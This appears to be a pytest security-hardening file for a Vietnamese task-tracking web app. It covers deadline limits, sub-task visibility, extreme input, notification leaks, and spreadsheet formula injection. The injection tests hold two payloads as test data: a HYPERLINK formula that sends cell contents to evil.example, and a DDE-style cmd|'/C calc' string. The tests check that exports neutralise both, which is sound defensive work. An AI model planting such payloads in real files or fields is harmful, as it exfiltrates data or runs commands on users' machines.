"""Hardening of data paths, through the real pages and API: far-future deadlines, spreadsheet
formula injection, sub-tasks hidden from those who may not see them, extreme paging/date/search
input, notifications after reassignment, and smaller leaks."""
import io
import re
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.conftest import csrf_from, post_form
from tests.test_api import Api, assert_error, cli_token, in_db
from tests.test_task_import import _confirm, _upload, _xlsx
from tests.test_workflow import _fresh, _unit, act, make_task, switch
from tracker.domain.deadlines import horizon_end
from tracker.models import Directive, ExtensionRequest, Task
from tracker.services.calendar import load_calendar
from tracker.timeutil import local_today

FAR = "31/12/9999"
FAR_ISO = "9999-12-31"


def _count_tasks(session):
    session.expire_all()
    return session.scalar(select(func.count(Task.id)))


def _new_directive(client, session, symbol="77-TB/BCĐ"):
    from tests.test_task_import import _directive
    return _directive(client, session, symbol)


def _assign(client, did, row):
    data = {f"items-0-{k}": v for k, v in row.items()}
    data["save"] = "1"
    return post_form(client, f"/directives/{did}/assign", data)


# --- 3. far-future deadlines --------------------------------------------------------------

def test_assign_form_refuses_a_deadline_beyond_the_horizon(client, session, as_user):
    as_user("thuky")
    did = _new_directive(client, session)
    before = _count_tasks(session)
    lead = str(_unit(session, "TP-UBND").id)
    resp = _assign(client, did, {"content": "Việc xa", "lead": lead, "deadline_kind": "date", "due_on": FAR,
                                 "priority": "normal"})
    assert resp.status_code == 400
    assert "Hạn hoàn thành không được sau 5 năm kể từ ngày giao." in resp.text
    assert _count_tasks(session) == before
    # The last day of the horizon is accepted; the first working day after it is not (a day off
    # would first be offered the next working day to confirm: 06/12/2031 is a Saturday).
    last = horizon_end(local_today(), 5)
    beyond = load_calendar(session).roll_forward(last + timedelta(days=1))
    resp = _assign(client, did, {"content": "Việc dài", "lead": lead, "deadline_kind": "date",
                                 "due_on": beyond.strftime("%d/%m/%Y"), "priority": "normal"})
    assert resp.status_code == 400 and _count_tasks(session) == before
    # Too many working days for the horizon (3650 working days is ~14 years).
    resp = _assign(client, did, {"content": "Việc dài", "lead": lead, "deadline_kind": "working_days",
                                 "deadline_days": "3000", "priority": "normal"})
    assert resp.status_code == 400 and "không được sau 5 năm" in resp.text
    resp = _assign(client, did, {"content": "Việc dài", "lead": lead, "deadline_kind": "date",
                                 "due_on": (last - timedelta(days=7)).strftime("%d/%m/%Y"), "priority": "normal"})
    assert resp.status_code == 302 and _count_tasks(session) == before + 1


def test_api_refuses_far_and_past_deadlines_with_json(app):
    thuky = Api(app, cli_token(app, "thuky"))
    did = in_db(app, lambda s: s.scalar(select(Directive.id).order_by(Directive.id.desc()).limit(1)))
    lead = in_db(app, lambda s: _unit(s, "TP-UBND").id)
    before = in_db(app, _count_tasks)
    for due, message in ((FAR_ISO, "không được sau 5 năm"), ("2001-01-01", "không được trước ngày giao")):
        resp = thuky.post(f"/directives/{did}/tasks", {"tasks": [
            {"content": "Việc", "lead_unit_id": lead, "deadline": {"kind": "date", "due_on": due}}]})
        assert resp.status_code in (400, 422)
        body = assert_error(resp, resp.status_code)
        assert any(message in m for m in body["fields"].values()), body
    assert in_db(app, _count_tasks) == before


def test_excel_import_flags_a_far_deadline_and_creates_nothing(client, session, as_user):
    as_user("thuky")
    did = _new_directive(client, session)
    before = _count_tasks(session)
    resp = _upload(client, did, _xlsx([["1", "Việc xa", "TP-MTTQ", "", FAR, ""]]))
    assert "31/12/9999 quá xa: không được sau 5 năm kể từ ngày giao." in resp.text
    assert 'id="import-confirm" disabled' in resp.text
    _confirm(client, did, resp.text)
    assert _count_tasks(session) == before


def test_split_refuses_a_far_sub_task_deadline(client, session, as_user):
    tid = make_task(session)
    to1 = _unit(session, "chiengle-to1")
    as_user("chiengle.lanhdao")
    act(client, tid, "receive")
    before = _count_tasks(session)
    page = client.get(f"/tasks/{tid}/split")
    resp = client.post(f"/tasks/{tid}/split", data={
        "csrf_token": csrf_from(page.text), "version": str(_fresh(session, tid).version),
        "items-0-content": "Họp tổ", "items-0-lead": str(to1.id), "items-0-due_on": FAR})
    assert resp.status_code == 400 and "không được sau 5 năm" in resp.text
    assert _count_tasks(session) == before


def test_ward_head_cannot_request_a_far_extension_and_old_requests_are_not_approved(client, session, as_user):
    tid = make_task(session)
    as_user("chiengle.lanhdao")
    act(client, tid, "receive")
    resp = act(client, tid, "request_extension", new_due_on=FAR, note="Lâu dài.")
    assert resp.status_code == 400 and "Thời hạn mới không được sau 5 năm kể từ hôm nay." in resp.text
    assert session.scalar(select(func.count(ExtensionRequest.id))) == 0
    # A far request recorded before the rule existed cannot be approved as is.
    workday = load_calendar(session).roll_forward(local_today() + timedelta(days=60))  # no moved-date step
    assert act(client, tid, "request_extension", new_due_on=workday.strftime("%d/%m/%Y"),
               note="Mưa lũ.").status_code == 302
    req = session.scalar(select(ExtensionRequest).where(ExtensionRequest.task_id == tid))
    req.new_due_on = date(9999, 12, 31)
    session.commit()
    switch(client, "thuky")
    resp = act(client, tid, "approve_extension")
    assert resp.status_code == 400 and "không được sau 5 năm" in resp.text
    assert _fresh(session, tid).due_on < date(2100, 1, 1)


def test_a_stored_far_deadline_does_not_break_the_pages(client, session, as_user):
    """Tasks saved before the rule keep rendering: list, task page, directive page, API."""
    tid = make_task(session)
    did = session.scalar(select(Directive.id).order_by(Directive.id.desc()).limit(1))
    _fresh(session, tid).directive_id = did
    session.commit()
    as_user("thuky")
    for due in (date(9999, 12, 31), date(9999, 12, 30)):
        task = _fresh(session, tid)
        task.due_on = due
        session.commit()
        switch(client, "thuky")
        for url in ("/tasks/", f"/tasks/{tid}", "/home", f"/directives/{did}", "/reports/"):
            assert client.get(url).status_code == 200, url
        api = Api(client.application, cli_token(client.application, "thuky"))
        assert api.get(f"/tasks/{tid}").json["due_on"] == due.isoformat()
        assert api.get("/tasks?per_page=100").status_code == 200
        switch(client, "chiengle.lanhdao")
        page = client.get(f"/tasks/{tid}")
        assert page.status_code == 200 and due.strftime("%d/%m/%Y") in page.text


def test_horizon_is_configurable(app, client, session, as_user):
    app.config["DEADLINE_HORIZON_YEARS"] = 1
    as_user("thuky")
    did = _new_directive(client, session)
    # A working day past the horizon: a day off would first be offered the next working day to confirm.
    due = load_calendar(session).roll_forward(local_today() + timedelta(days=400))
    resp = _assign(client, did, {"content": "Việc", "lead": str(_unit(session, "TP-UBND").id),
                                 "deadline_kind": "date", "due_on": due.strftime("%d/%m/%Y"),
                                 "priority": "normal"})
    assert resp.status_code == 400 and "Hạn hoàn thành không được sau 1 năm kể từ ngày giao." in resp.text


# --- 4. spreadsheet formula injection -------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_task_content_is_a_literal_in_the_report_export(client, session, as_user):
    as_user("thuky")
    did = _new_directive(client, session)
    resp = _assign(client, did, {"content": EVIL, "lead": str(_unit(session, "chiengle").id),
                                 "deadline_kind": "none", "priority": "normal"})
    assert resp.status_code == 302
    parent = session.scalar(select(Task).where(Task.content == EVIL))
    # A ward head writes the content of a sub-task.
    switch(client, "chiengle.lanhdao")
    act(client, parent.id, "receive")
    page = client.get(f"/tasks/{parent.id}/split")
    resp = client.post(f"/tasks/{parent.id}/split", data={
        "csrf_token": csrf_from(page.text), "version": str(_fresh(session, parent.id).version),
        "items-0-content": "@SUM(1+1)*cmd|' /C calc'!A0", "items-0-lead": str(_unit(session, "chiengle-to1").id),
        "items-0-due_on": ""})
    assert resp.status_code == 302
    resp = client.get("/reports/export.xlsx?kind=custom&start=01/01/2022&end=31/12/2030")  # the ward's own report
    wb = load_workbook(io.BytesIO(resp.data))
    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
    contents = [c for c in _all_cells(wb) if isinstance(c.value, str) and "SUM(" in c.value]
    assert contents and {c.value for c in contents} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert all(c.data_type == "s" for c in contents)
    switch(client, "thuky")
    resp = client.get("/reports/export.xlsx?kind=custom&start=01/01/2022&end=31/12/2030")
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.data))
    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
    contents = [c for c in _all_cells(wb) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert contents and {c.value for c in contents} == {"'" + EVIL}
    assert all(c.data_type == "s" for c in contents)
    # Same file read by a spreadsheet program's formula engine would see text: check the raw XML too.
    import zipfile
    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml


def test_import_templates_write_no_formulas(client, session, as_user):
    as_user("thuky")
    did = _new_directive(client, session)
    wb = load_workbook(io.BytesIO(client.get(f"/directives/{did}/import/template.xlsx").data))
    assert not [c for c in _all_cells(wb) if c.data_type == "f"]
    # The helper every writer uses.
    from tracker.spreadsheet import literal, literal_row
    assert literal_row(["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "ok", 5, None]) == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "ok", 5, None]
    assert literal("Bình thường = ok") == "Bình thường = ok"


# --- 2. sub-tasks on the parent page ------------------------------------------------------

SECRET = "Rà soát hộ nghèo tổ 1 (nội bộ phường)"


def test_parent_page_lists_only_sub_tasks_the_viewer_may_see(app, client, session, as_user):
    tid = make_task(session, coordinators=("tohieu",))
    as_user("chiengle.lanhdao")
    act(client, tid, "receive")
    page = client.get(f"/tasks/{tid}/split")
    resp = client.post(f"/tasks/{tid}/split", data={
        "csrf_token": csrf_from(page.text), "version": str(_fresh(session, tid).version),
        "items-0-content": SECRET, "items-0-lead": str(_unit(session, "chiengle-to1").id), "items-0-due_on": ""})
    assert resp.status_code == 302
    child = session.scalar(select(Task).where(Task.parent_id == tid))
    child.progress = 80
    session.commit()
    own = client.get(f"/tasks/{tid}").text  # the ward itself sees its sub-task
    assert SECRET in own and 'id="children"' in own and f"#{child.id}</a>" in own and "tiến độ chung 80%" in own
    for viewer in ("tohieu.lanhdao", "thuky", "giamsat"):  # coordinating unit, committee, viewer
        switch(client, viewer)
        assert client.get(f"/tasks/{child.id}").status_code == 404
        page = client.get(f"/tasks/{tid}")
        assert page.status_code == 200, viewer
        assert SECRET not in page.text and 'id="children"' not in page.text, viewer
        assert "tiến độ chung" not in page.text and f"/tasks/{child.id}\"" not in page.text, viewer
        assert f"#{child.id}</a>" not in page.text, viewer
        detail = Api(app, cli_token(app, viewer)).get(f"/tasks/{tid}")
        assert detail.status_code == 200 and detail.json["child_ids"] == []


# --- 12. extreme paging, dates and searches -------------------------------------------------

HUGE = "99999999999999999999"


def test_huge_page_numbers_are_clamped_not_500(client, as_user):
    as_user("thuky")
    for url in (f"/tasks/?page={HUGE}", f"/directives/?page={HUGE}", "/tasks/?page=-3", "/tasks/?page=abc",
                f"/reports/tasks?page={HUGE}", f"/tasks/?unit={HUGE}&directive={HUGE}"):
        resp = client.get(url)
        assert resp.status_code == 200, url
    switch(client, "admin")
    assert client.get(f"/admin/outbox?page={HUGE}").status_code == 200


def test_report_dates_outside_1900_2100_are_refused_with_a_message(app, client, as_user):
    as_user("thuky")
    for args in ("kind=custom&start=01/01/0001&end=31/12/2030", "kind=custom&start=01/01/2022&end=31/12/9999",
                 "kind=year&ref=01/06/0001", "kind=year&ref=15/06/9999", "as_of=31/12/9999"):
        page = client.get(f"/reports/?{args}")
        assert page.status_code in (200, 400), args
        assert "Ngày phải trong khoảng từ 01/01/1900 đến 31/12/2100." in page.text, args
        for url in (f"/reports/export.xlsx?{args}", f"/reports/export.docx?{args}", f"/reports/tasks?{args}"):
            assert client.get(url).status_code == 400, url
    api = Api(app, cli_token(app, "thuky"))
    body = assert_error(api.get("/reports/units?kind=custom&start=01/01/0001&end=31/12/2030"), 400)
    assert "01/01/1900" in str(body)
    body = assert_error(api.get("/reports/units?kind=year&ref=15/06/9999"), 400)
    # The bounds themselves are fine.
    assert client.get("/reports/?kind=custom&start=01/01/1900&end=31/12/2100").status_code == 200
    assert api.get("/reports/units?kind=custom&start=01/01/1900&end=31/12/2100").status_code == 200


def test_a_very_long_search_uses_its_first_words(app, client, session, as_user):
    words = " ".join(["quán", "triệt"] + [f"tu{i}" for i in range(1300)])
    as_user("thuky")
    for url in ("/tasks/?q=", "/directives/?q="):
        resp = client.get(url + words)
        assert resp.status_code == 200, url
    # Only the first 20 words count: the first two still find the demo task.
    resp = client.get("/tasks/?q=" + " ".join(["quán", "triệt"] + ["văn"] * 40))
    assert resp.status_code == 200 and "Quán triệt" in resp.text
    api = Api(app, cli_token(app, "thuky"))
    assert api.get("/directives?q=" + " ".join(["a"] * 99)).status_code == 200
    assert api.get("/tasks?q=" + " ".join(["a"] * 99)).status_code == 200


# --- 13. notifications after reassignment -----------------------------------------------------

def test_notifications_of_a_reassigned_task_no_longer_show_its_content(client, session, as_user):
    tid = make_task(session)
    content = _fresh(session, tid).content
    as_user("chiengle.lanhdao")
    bell = client.get("/notifications/").text
    assert content[:40] in bell  # the "assigned" notice
    act(client, tid, "refuse", note="Không thuộc thẩm quyền của phường.")
    switch(client, "thuky")
    assert act(client, tid, "reassign", lead_unit_id=str(_unit(session, "tohieu").id)).status_code == 302
    switch(client, "chiengle.lanhdao")
    bell = client.get("/notifications/")
    assert bell.status_code == 200
    assert content[:40] not in bell.text
    assert f"Nhiệm vụ #{tid} không còn thuộc phạm vi của đơn vị bạn." in bell.text
    assert f"/tasks/{tid}\"" not in bell.text
    switch(client, "tohieu.lanhdao")  # the new lead sees it in full
    assert content[:40] in client.get("/notifications/").text


# --- 15. smaller leaks and dead ends -----------------------------------------------------------

def _reminders_section(html: str) -> str:
    m = re.search(r'<section class="mt-4" id="task-reminders">.*?</section>', html, re.S)
    assert m, "no reminders section"
    return m.group(0)


def test_reminder_recipients_addresses_only_for_their_own_unit(app, client, session, as_user):
    from tests.reliability.helpers import make_task as make_due_task
    from tracker.extensions import db
    from tracker.models import Reminder
    from tracker.services.calendar import load_calendar
    from tracker.services.reminders import sweep

    task = make_due_task(session, date(2026, 3, 20), coords=("tohieu",))
    with app.app_context():
        sweep(db.session, date(2026, 3, 20), load_calendar(), hour="00:00")
    emails = set(session.scalars(select(Reminder.email).where(Reminder.task_id == task.id)))
    assert emails
    as_user("chiengco.lanhdao")  # the recipient's own unit
    own = _reminders_section(client.get(f"/tasks/{task.id}").text)
    assert all(e in own for e in emails)
    for viewer in ("tohieu.lanhdao", "thuky"):  # a coordinating unit, the assigning committee
        switch(client, viewer)
        section = _reminders_section(client.get(f"/tasks/{task.id}").text)
        assert "@" not in section, viewer
        assert "Lãnh đạo Chiềng Cọ" in section, viewer


ZW = "\u200b\u200c\u200d\u2060\ufeff"


def test_title_or_content_of_only_zero_width_characters_is_refused(app, client, session, as_user):
    as_user("thuky")
    before = session.scalar(select(func.count(Directive.id)))
    resp = post_form(client, "/directives/new", {
        "kind": "conference", "symbol": "78-TB/BCĐ", "issued_on": "23/11/2022",
        "issuer_unit_id": str(_unit(session, "TP-BCD").id), "title": ZW, "body": ""})
    assert resp.status_code == 400 and "Trích yếu / tiêu đề không được để trống." in resp.text
    session.expire_all()
    assert session.scalar(select(func.count(Directive.id))) == before
    api = Api(app, cli_token(app, "thuky"))
    resp = api.post("/directives", {"kind": "conference", "symbol": "79-TB/BCĐ", "issued_on": "2022-11-23",
                                     "issuer_unit_id": _unit(session, "TP-BCD").id, "title": ZW + " \u00a0"})
    assert resp.status_code in (400, 422) and resp.is_json
    session.expire_all()
    assert session.scalar(select(func.count(Directive.id))) == before
    did = _new_directive(client, session)
    resp = _assign(client, did, {"content": ZW, "lead": str(_unit(session, "TP-UBND").id),
                                 "deadline_kind": "none", "priority": "normal"})
    assert resp.status_code == 400 and "Nội dung nhiệm vụ không được để trống." in resp.text


def test_committee_cannot_make_itself_the_lead_of_its_own_task(app, client, session, as_user):
    as_user("thuky")
    did = _new_directive(client, session)
    owner = session.get(Directive, did).owner_unit_id
    before = _count_tasks(session)
    resp = _assign(client, did, {"content": "Tự giao cho mình", "lead": str(owner), "deadline_kind": "none",
                                 "priority": "normal"})
    assert resp.status_code == 400 and "Đơn vị chủ trì không được là chính đơn vị giao nhiệm vụ." in resp.text
    assert _count_tasks(session) == before
    body = assert_error(Api(app, cli_token(app, "thuky")).post(f"/directives/{did}/tasks", {"tasks": [
        {"content": "Tự giao", "lead_unit_id": owner, "deadline": {"kind": "none"}}]}), 400)
    assert "chính đơn vị giao nhiệm vụ" in str(body)
    # Nor by reassigning a refused task to itself.
    tid = make_task(session)
    switch(client, "chiengle.lanhdao")
    act(client, tid, "refuse", note="Không thuộc thẩm quyền.")
    switch(client, "thuky")
    own_unit = _fresh(session, tid).assigned_by_unit_id
    resp = act(client, tid, "reassign", lead_unit_id=str(own_unit))
    assert resp.status_code == 400
    assert _fresh(session, tid).lead_unit_id == _unit(session, "chiengle").id


def test_api_extension_request_beyond_the_horizon_is_refused(app, session):
    tid = make_task(session)
    head = Api(app, cli_token(app, "chiengle.lanhdao"))
    assert head.post(f"/tasks/{tid}/actions", json={"action": "receive", "version": 1}).status_code == 200
    body = assert_error(head.post(f"/tasks/{tid}/actions", json={
        "action": "request_extension", "version": 2, "new_due_on": FAR_ISO, "note": "Lâu dài."}), 400)
    assert "không được sau 5 năm" in str(body)
    session.expire_all()
    assert session.scalar(select(func.count(ExtensionRequest.id))) == 0


def test_proposal_review_refuses_a_far_deadline(client, session, as_user):
    from tests.test_proposals import Review, _analyse
    from tests.test_proposals import _directive as proposal_directive

    as_user("thuky")
    did = proposal_directive(client, session)
    review = _analyse(client, did)
    ubnd = str(_unit(session, "TP-UBND").id)
    before = _count_tasks(session)
    resp = review.post(client, f"/directives/{did}/propose", "confirm",
                       rows__0__lead=ubnd, rows__0__deadline_kind="date", rows__0__due_on=FAR,
                       rows__1__lead=ubnd, rows__2__lead=ubnd, rows__3__lead=ubnd)
    assert resp.status_code == 400
    assert any("không được sau 5 năm" in e for e in Review(resp).errors(0))
    assert _count_tasks(session) == before
